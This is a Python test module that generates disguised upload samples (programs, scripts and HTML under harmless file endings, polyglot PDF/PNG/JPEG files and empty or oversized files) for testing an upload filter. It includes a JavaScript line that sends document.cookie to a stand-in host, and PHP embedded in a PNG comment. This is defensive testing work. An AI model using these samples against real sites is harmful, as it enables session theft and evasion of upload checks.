"""Programs, scripts, markup and kinds that are not taken, under harmless endings; polyglots."""

import io
import tarfile
from collections.abc import Iterator

from tests.authorities.uploads.corpus import (
    HTML,
    LINUX,
    PHP,
    SCRIPT,
    SHELL,
    SVG,
    WINDOWS,
    Case,
    archive,
    chunk,
    content_types,
    jpeg,
    ole,
    png,
    relationships,
    text,
    under,
    word,
)
from tests.authorities.uploads.corpus_pdf import pdf

RTF = rb"{\rtf1\ansi\deff0 {\fonttbl {\f0 Arial;}}\f0\fs24 Our plan.\par}"
GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x08meta" + bytes(200)
RIFF = b"RIFF\x24\0\0\0WEBPVP8L\x0d\0\0\0\x2f\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def pictures_as_pillow_saves_them(kind: str) -> bytes:
    """Return a small picture of a kind that is not taken."""
    from PIL import Image  # only these cases need it

    target = io.BytesIO()
    Image.new("RGB", (16, 16), "navy").save(target, kind)
    return target.getvalue()


def slides() -> bytes:
    """Return a small PowerPoint presentation."""
    return archive(
        {
            "[Content_Types].xml": content_types({"/ppt/presentation.xml": SLIDES}),
            "_rels/.rels": relationships(("officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": b"<p:presentation xmlns:p='p'/>",
        }
    )


def tar() -> bytes:
    """Return a tape archive with one script."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as kept:
        entry = tarfile.TarInfo("run.sh")
        entry.size = len(SHELL)
        kept.addfile(entry, io.BytesIO(SHELL))
    return target.getvalue()


def programs() -> Iterator[Case]:
    """Yield programs and scripts."""
    yield from under(["pdf", "jpg"], "windows-program", WINDOWS)
    yield from under(["pdf"], "linux-program", LINUX)
    yield from under(["odt"], "mac-program", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(400))
    yield from under(["png"], "java-class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100))
    yield from under(["docx"], "shell-script", SHELL)
    yield from under(["jpg"], "php-script", PHP)
    yield from under(["pdf"], "script-for-windows", SCRIPT)
    yield from under(["docx"], "batch-file", b"@echo off\r\nstart calc.exe\r\n")
    yield from under(
        ["docx"], "java-archive", archive({"META-INF/MANIFEST.MF": b"Main-Class: X\n"})
    )
    yield from under(["xlsx"], "installer", ole({"!_StringPool": b"x", "Property": b"y"}))


def markup() -> Iterator[Case]:
    """Yield what a browser would run, under every ending that is taken."""
    yield from under(["pdf", "docx", "png", "jpg"], "web-page", HTML)
    yield from under(["png", "jpg", "pdf"], "drawing-with-script", SVG)
    yield from under(["docx"], "javascript", b"fetch('https://example.org/'+document.cookie)")
    yield from under(["jfif"], "web-page-in-utf-16", HTML.decode().encode("utf-16"))
    yield from under(["xlsx"], "web-page-as-old-exports-are", b"<html><table><tr><td>1</table>")


def other_kinds() -> Iterator[Case]:
    """Yield genuine files of kinds that are not taken, under their own and others' endings."""
    yield from under(["png"], "gif", GIF)
    yield from under(["heic"], "heic", HEIC)
    yield from under(["webp", "jpg"], "webp", RIFF)
    yield from under(["jpeg"], "tiff", pictures_as_pillow_saves_them("TIFF"))
    yield from under(["png"], "bmp", pictures_as_pillow_saves_them("BMP"))
    yield from under(["docx"], "rich-text", RTF)
    yield from under(["doc"], "old-word-document", ole({"WordDocument": b"\xec\xa5\xc1\0"}))
    yield from under(["xls"], "old-workbook", ole({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0"}))
    yield from under(["pptx"], "slides", slides())
    sheets = b"application/vnd.oasis.opendocument.spreadsheet"
    yield from under(["ods", "odt"], "open-document-sheet", text(kind=sheets))
    yield from under(["docx", "odt"], "archive", archive({"plan.txt": b"Our plan."}))
    yield from under(["pdf"], "seven-zip", b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(60))
    yield from under(["docx"], "rar", b"Rar!\x1a\x07\x01\0" + bytes(60))
    yield from under(["odt"], "tape-archive", tar())
    yield from under(["txt"], "plain-text", b"Our plan for the pilot.\n")
    yield from under(["xlsx"], "comma-separated", b"item,price\nSensor,105\n")
    yield "word-document-named-as-pdf", "plan.pdf", word()
    yield "pdf-named-as-picture", "plan.png", pdf()


def polyglots() -> Iterator[Case]:
    """Yield files that are two kinds at once."""
    program = archive({"run.exe": WINDOWS})
    yield "pdf-that-is-an-archive-too", "plan.pdf", pdf() + program
    yield "pdf-after-a-shell-script", "plan.pdf", SHELL + b"exit\n" + pdf()
    yield "png-followed-by-an-archive", "plan.png", png() + program
    yield "png-with-php-as-its-comment", "plan.png", png(before=chunk(b"tEXt", b"Comment\0" + PHP))
    yield "jpeg-followed-by-an-archive", "plan.jpg", jpeg() + program
    yield "word-document-after-a-program", "plan.docx", WINDOWS + word()
    yield "word-document-after-a-web-page", "plan.docx", HTML + word()


def nothing() -> Iterator[Case]:
    """Yield files that hold nothing, and one that holds too much."""
    yield from under(["pdf", "docx"], "empty", b"")
    yield from under(["pdf", "odt"], "only-white-space", b" \r\n\t" * 200)
    yield "pdf-larger-than-ten-megabytes", "plan.pdf", pdf(drawn=b" " * (10 * 1024 * 1024))


def disguises() -> Iterator[Case]:
    """Yield every hostile file that is not what its name says."""
    yield from programs()
    yield from markup()
    yield from other_kinds()
    yield from polyglots()
    yield from nothing()
